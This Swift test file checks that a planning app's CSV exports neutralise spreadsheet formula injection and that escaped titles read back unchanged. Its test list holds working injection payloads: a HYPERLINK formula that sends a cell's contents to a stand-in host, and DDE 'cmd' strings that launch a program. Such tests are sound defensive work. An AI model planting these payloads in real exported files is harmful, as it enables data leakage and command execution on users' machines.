import Foundation
import Testing
import Performa
@testable import PerformaFormats

/// CSV (formula) injection: no text that Performa writes to a CSV may start a formula when the file is opened in a
/// spreadsheet program, whichever export it comes from, and the texts come back unchanged when the CSV is read.
@Suite("CSV formula injection")
struct FormulaGuardTests {
    /// Texts that spreadsheet programs would run as formulas or commands.
    static let hostile = [
        "=HYPERLINK(\"http://esempio.invalid/?\"&A1;\"Clicca\")", "+39 030 3725 1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTabulazione iniziale", "\rRitorno a capo iniziale", "'=già segnato", "''+due apostrofi",
    ]

    @Test("texts that start a formula get an apostrophe, numbers keep their sign, and reading undoes it exactly", arguments: hostile)
    func neutraliseAndRestore(text: String) {
        let written = FormulaGuard.neutralise(text)
        #expect(written.first == "'")
        #expect(FormulaGuard.restore(written) == text)
    }

    @Test("numbers and ordinary texts are written as they are")
    func harmless() {
        for text in ["-5,00%", "-0.5", "+20%", "-1.489", "1e-3", "-2,5e+3", "€ 50.000,00", "Indicatore 1", "", "'", "'testo", "31/12/2021"] {
            #expect(FormulaGuard.neutralise(text) == text)
            #expect(FormulaGuard.restore(text) == text)
        }
    }

    @Test("restore undoes neutralise on every text of some random characters")
    func roundTrip() {
        let alphabet: [Character] = ["=", "+", "-", "@", "'", "\t", "\r", "1", ",", ".", "%", "e", "a", " "]
        var random = SplitMix64(state: 12)
        for _ in 0..<5_000 {
            let text = String((0..<Int(random.next() % 6)).map { _ in alphabet[Int(random.next() % UInt64(alphabet.count))] })
            #expect(FormulaGuard.restore(FormulaGuard.neutralise(text)) == text, "«\(text.debugDescription)»")
        }
    }

    /// The Brescia plan with hostile titles on an area, a strategic and an operational objective.
    static func hostilePlan() throws -> Plan {
        var plan = try TestFiles.brescia()
        plan.areas[0].title = hostile[0]
        plan.areas[0].objectives[0].title = hostile[2]
        plan.areas[0].objectives[0].operationalObjectives[0].title = hostile[3]
        return plan
    }

    /// Every field of a CSV text as written, quotes removed but apostrophes kept.
    static func writtenFields(_ csv: String, separator: Character) -> [String] {
        var fields: [String] = []
        var field = ""
        var inQuotes = false
        var previousWasQuote = false
        for character in csv {
            if inQuotes {
                if character == "\"" { inQuotes = false; previousWasQuote = true; continue }
                field.append(character)
            } else if character == "\"" {
                if previousWasQuote { field.append("\"") }
                inQuotes = true
            } else if character == separator || character == "\r\n" || character == "\n" {
                fields.append(field)
                field = ""
            } else {
                field.append(character)
            }
            previousWasQuote = false
        }
        fields.append(field)
        return fields
    }

    static func expectNoFormula(_ csv: String, separator: Character, _ source: String) {
        for field in writtenFields(csv.hasPrefix(SpreadsheetCSV.byteOrderMark) ? String(csv.dropFirst()) : csv, separator: separator) {
            guard let first = field.first, FormulaGuard.triggers.contains(first) else { continue }
            #expect(FormulaGuard.isNumber(Substring(field)), "\(source): «\(field)» would start a formula")
        }
    }

    @Test("the scorecard CSV, the plan's spreadsheet CSV and the open data carry the titles guarded")
    func everyExport() throws {
        let plan = try Self.hostilePlan()
        let results = try ResultsFile.read(contentsOf: TestFiles.bresciaResults, plan: plan)
        let card = Scorer(plan: plan).scorecard(results: results, at: .yearEnd(2021))
        let scorecard = ScorecardRows.csv(card)
        Self.expectNoFormula(scorecard, separator: ";", "punteggi")
        #expect(scorecard.contains("'" + Self.hostile[3]))
        for table in PlanSheetExport.tables(plan) {
            Self.expectNoFormula(SpreadsheetCSV.text(table), separator: ";", table.name)
        }
        for table in OpenDataExport.tables(plan: plan, scorecard: card) {
            Self.expectNoFormula(table.csv, separator: ",", table.name)
            #expect(!table.json.contains("'" + Self.hostile[2].prefix(5)), "JSON carries the texts unchanged")
        }
    }

    @Test("a plan exported as CSV sheets imports with the same hostile titles")
    func spreadsheetRoundTrip() throws {
        let plan = try Self.hostilePlan()
        let folder = try SpreadsheetTestSupport.scratchFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        try SpreadsheetCSV.write(PlanSheetExport.tables(plan), to: folder)
        let imported = try PlanSheetImport.plan(from: try SpreadsheetInput.sheets(at: folder), base: plan, file: folder.lastPathComponent)
        #expect(imported.areas[0].title == Self.hostile[0])
        #expect(imported.areas[0].objectives[0].title == Self.hostile[2])
        #expect(imported.areas[0].objectives[0].operationalObjectives[0].title == Self.hostile[3])
    }
}
